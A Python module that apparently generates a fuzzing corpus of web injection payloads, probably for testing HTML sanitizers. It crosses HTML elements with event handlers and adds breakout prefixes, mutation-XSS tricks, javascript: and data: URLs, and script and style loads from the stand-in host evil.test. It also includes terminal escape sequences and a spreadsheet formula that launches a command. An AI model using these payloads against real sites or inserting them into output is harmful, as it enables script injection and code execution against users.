"""Markup that would run if it were taken for markup: some thousands of the known shapes.

Every element with every event, ways out of attributes, comments and raw text, mutations, addresses that are scripts,
encodings, template braces, terminal sequences and formulas. Written here, not taken from anybody's list.
"""

from __future__ import annotations

import html
import itertools
from typing import Final
from urllib.parse import quote

_RUNS: Final = "alert(1)"
_ELEMENTS: Final = (
    "a", "abbr", "acronym", "address", "animate", "animatemotion", "animatetransform", "area", "article", "aside",
    "audio", "b", "base", "bdi", "bdo", "big", "blockquote", "body", "br", "button", "canvas", "caption",
    "center", "cite", "code", "col", "colgroup", "data", "datalist", "dd", "del", "details", "dfn", "dialog",
    "div", "dl", "dt", "em", "embed", "fieldset", "figcaption", "figure", "font", "footer", "form", "frame",
    "frameset", "h1", "head", "header", "hgroup", "hr", "html", "i", "iframe", "image", "img", "input", "ins",
    "kbd", "keygen", "label", "legend", "li", "link", "main", "map", "mark", "marquee", "math", "menu", "meta",
    "meter", "nav", "nobr", "noembed", "noframes", "noscript", "object", "ol", "optgroup", "option", "output",
    "p", "param", "picture", "plaintext", "pre", "progress", "q", "rb", "rp", "rt", "ruby", "s", "samp", "script",
    "section", "select", "set", "slot", "small", "source", "span", "strike", "strong", "style", "sub", "summary",
    "sup", "svg", "table", "tbody", "td", "template", "textarea", "tfoot", "th", "thead", "time", "title", "tr",
    "track", "tt", "u", "ul", "var", "video", "wbr", "xmp", "x-own",
)  # fmt: skip
_EVENTS: Final = (
    "onabort", "onafterprint", "onanimationend", "onanimationstart", "onauxclick", "onbeforecopy",
    "onbeforeinput", "onbeforeprint", "onbeforetoggle", "onbeforeunload", "onbegin", "onblur", "oncanplay",
    "onchange", "onclick", "oncontextmenu", "oncopy", "oncuechange", "ondblclick", "ondrag", "ondrop", "onend",
    "onended", "onerror", "onfocus", "onfocusin", "onfullscreenchange", "onhashchange", "oninput", "oninvalid",
    "onkeydown", "onload", "onloadstart", "onmessage", "onmousemove", "onmouseover", "onmousewheel", "onpageshow",
    "onpaste", "onplay", "onpointerenter", "onpointerrawupdate", "onpopstate", "onrepeat", "onreset", "onresize",
    "onscroll", "onscrollend", "onsearch", "onselect", "onselectstart", "onshow", "onstart", "onsubmit",
    "ontimeupdate", "ontoggle", "ontouchstart", "ontransitionend", "ontransitionrun", "onunhandledrejection",
    "onunload", "onvolumechange", "onwheel", "onwebkitanimationend", "onwebkittransitionend",
)  # fmt: skip
_WAYS_OUT: Final = (
    '">', "'>", "`>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "</xmp>",
    "</iframe>", "</select>", "-->", "--!>", "]]>", "<!--", "<![CDATA[", "*/", "\\\">", "%22%3E", "</svg>", "</math>",
    "&quot;>", "\x00\">", "\u2028\">", "＂＞", "{{", "{%", "${", "<%", "#{", "<?php ",
)  # fmt: skip
_BODIES: Final = (
    f"<script>{_RUNS}</script>",
    f"<img src=x onerror={_RUNS}>",
    f"<svg/onload={_RUNS}>",
    f"<svg><script>{_RUNS}</script>",
    f"<iframe srcdoc='<script>{_RUNS}</script>'>",
    "<base href=//evil.test>",
    "<style>@import'//evil.test'</style>",
    f"<form action=javascript:{_RUNS}><button>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    f"<math><mtext><table><mglyph><style><img src onerror={_RUNS}>",
    f"<noscript><p title='</noscript><img src onerror={_RUNS}>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={_RUNS}>'>",
    f"<!--><img src onerror={_RUNS}>-->",
    f"<scr<script>ipt>{_RUNS}</scr</script>ipt>",
    "<SCRIPT/SRC=//evil.test>",
    f"<a href='jav&#x09;ascript:{_RUNS}'>x</a>",
    f"<object data=javascript:{_RUNS}>",
    f"<template><img src onerror={_RUNS}></template>",
    f"＜script＞{_RUNS}＜/script＞",
    f"<x contenteditable onblur={_RUNS}>",
    "<link rel=stylesheet href=//evil.test>",
    f"<embed src=data:text/html,{_RUNS}>",
)
_ADDRESSES: Final = (
    f"javascript:{_RUNS}",
    f"JaVaScRiPt:{_RUNS}",
    f" javascript:{_RUNS}",
    f"java\tscript:{_RUNS}",
    f"java\nscript:{_RUNS}",
    f"\x01javascript:{_RUNS}",
    f"javascript&colon;{_RUNS}",
    f"&#106;avascript:{_RUNS}",
    f"javascript://kabar.test/%0a{_RUNS}",
    f"data:text/html,<script>{_RUNS}</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    f"vbscript:{_RUNS}",
    f"feed:javascript:{_RUNS}",
    f"view-source:javascript:{_RUNS}",
    "blob:https://kabar.test/1",
    "file:///etc/passwd",
    f"//evil.test/{_RUNS}",
    f"https:javascript:{_RUNS}",
    f'http://kabar.test/"onmouseover={_RUNS} x="',
    f"https://kabar.test/'><script>{_RUNS}</script>",
    f"\u00a0javascript:{_RUNS}",
    f"javascript\u0000:{_RUNS}",
)
_STEERING: Final = (
    "\x1b[31m",
    "\x1b]0;owned\x07",
    "\x1b]8;;file:///etc\x1b\\",
    "\x9b31m",
    "\x1bP+q\x1b\\",
    "\x08\x08",
    "\r",
    "\u202e",
    "\u2066",
    "\u200f",
    "\x7f",
    "\x0c",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "[bold]x[/bold]",
    "[link=x]",
)


def payloads() -> list[str]:
    """All of them, each once."""
    found = [f"<{element} {event}={_RUNS}>x" for element, event in itertools.product(_ELEMENTS, _EVENTS)]
    found += [f"{way}{body}" for way, body in itertools.product(_WAYS_OUT, _BODIES)]
    found += list(_BODIES) + list(_ADDRESSES) + list(_STEERING)
    found += [f'<a href="{html.escape(address)}">x</a>' for address in _ADDRESSES]
    found += [f"[x]({address})" for address in _ADDRESSES]
    found += [quote(body) for body in _BODIES] + [html.escape(body) for body in _BODIES]
    found += [html.escape(html.escape(body)) for body in _BODIES]
    found += ["".join(f"&#{ord(sign)};" for sign in body) for body in _BODIES]
    found += [body.encode("utf-7").decode("ascii") for body in _BODIES]
    return list(dict.fromkeys(found))
